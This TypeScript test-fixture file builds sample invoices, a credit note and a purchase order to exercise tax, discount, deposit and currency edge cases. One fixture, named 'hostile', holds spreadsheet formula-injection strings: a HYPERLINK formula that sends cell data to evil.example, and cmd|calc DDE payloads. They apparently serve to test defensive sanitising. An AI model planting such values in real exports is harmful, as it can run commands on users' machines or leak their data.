import type { BusinessDocument } from '@sheaf/domain/documents/document'
import { aDocument, anInvoice } from '../../domain/test/make-document.ts'

const seller = {
  'sender.name': 'Atelier Blau GmbH',
  'sender.address': 'Hauptstr. 1\n10115 Berlin\nGermany',
  'sender.taxId': 'DE 123 456 788',
  'tax.label': 'VAT',
  currency: 'EUR',
  region: 'DE',
} as const

const client = {
  'receiver.company': 'Müller & Söhne, Ltd.',
  'receiver.email': 'books@muller.example',
  'receiver.address': '12 High Street\nFloor 3\nLondon SW1A 1AA\nUnited Kingdom',
} as const

/** Three rates, a discount on all, one on a line, shipping, and a line taken back. */
const threeRates = anInvoice(
  {
    ...seller,
    ...client,
    number: 'INV-101',
    'tax.rate': '19',
    'discount.kind': 'percent',
    'discount.value': '10',
    'charges.shipping': '7.90',
    'references.orderNumber': 'PO-77',
  },
  [
    { description: 'Logo; "final"', quantity: '3', price: '33.333' },
    { description: 'Book\nwith a second line', quantity: '2', price: '12.5', taxRate: '7' },
    { description: 'Insurance', quantity: '1', price: '40', taxRate: '0' },
    { description: 'Taken back', quantity: '-1', price: '5' },
    {
      ...{ description: 'Print', quantity: '7', price: '9.99', itemNumber: 'P-7' },
      ...{ discountKind: 'amount', discountValue: '1.11' },
    },
  ],
)

/** Prices with tax inside, a deposit that was paid ahead, tax withheld, and a part that is paid. */
const finalInvoice = anInvoice(
  {
    ...seller,
    ...client,
    number: 'INV-102',
    'tax.rate': '19',
    'tax.isIncluded': true,
    'deposits.numbers': 'INV-90',
    'deposits.days': '2025-12-01',
    'deposits.amounts': '119',
    'withholding.rate': '15',
    amountPaid: '20',
  },
  [
    { description: 'Website', quantity: '1', price: '500' },
    { description: 'Brochure', quantity: '3', price: '33.33', taxRate: '7' },
  ],
)

/** A currency without cents. */
const yen = anInvoice(
  { ...seller, ...client, number: 'INV-103', currency: 'JPY', 'tax.rate': '10' },
  [
    { description: 'Translation', quantity: '3', price: '3333' },
    { description: 'Sheets', quantity: '1.5', price: '333' },
  ],
)

/** Cells that a spreadsheet would run, and more words than a program takes. */
const hostile = anInvoice(
  {
    ...seller,
    number: 'INV-104',
    'receiver.company': '=HYPERLINK("http://evil.example?"&A1,"Acme")',
    'receiver.email': 'a@b.example',
    'receiver.address': '@SUM(1+1)*cmd|calc\n+1 Road\n\tLondon SW1A 1AA',
    'texts.message': '-2+3+cmd|" /C calc"!A0',
    'tax.rate': '19',
  },
  [
    { description: `-${'A long story. '.repeat(714)}`, quantity: '1', price: '10' },
    { description: '\t=1+1', quantity: '1', price: '-2' },
    { description: 'Naïve ☕ 日本 “quotes”', quantity: '1', price: '5' },
  ],
)

const reverseCharge = anInvoice(
  {
    ...seller,
    number: 'INV-105',
    'tax.isReverseCharge': true,
    'receiver.company': 'Café Noir SARL',
    'receiver.taxId': 'FR 40 303265045',
    'receiver.address': '3 rue du Bac\n75007 Paris\nFrance',
  },
  [{ description: 'Consulting', quantity: '8', price: '95' }],
)

const credit = aDocument(
  'credit_note',
  {
    ...seller,
    ...client,
    number: 'CN-7',
    'tax.rate': '19',
    'references.invoiceNumber': 'INV-101',
  },
  [{ description: 'Logo, taken back', quantity: '1', price: '33.33' }],
)

const order = aDocument(
  'purchase_order',
  { ...seller, number: 'PO-9', 'tax.rate': '20', 'receiver.company': 'Paper Mill' },
  [{ description: 'Paper, A4', itemNumber: 'A4', quantity: '10', unit: 'box', price: '21.5' }],
)

export const hard = { threeRates, finalInvoice, yen, hostile, reverseCharge, credit, order }

export const allHard: readonly BusinessDocument[] = Object.values(hard)
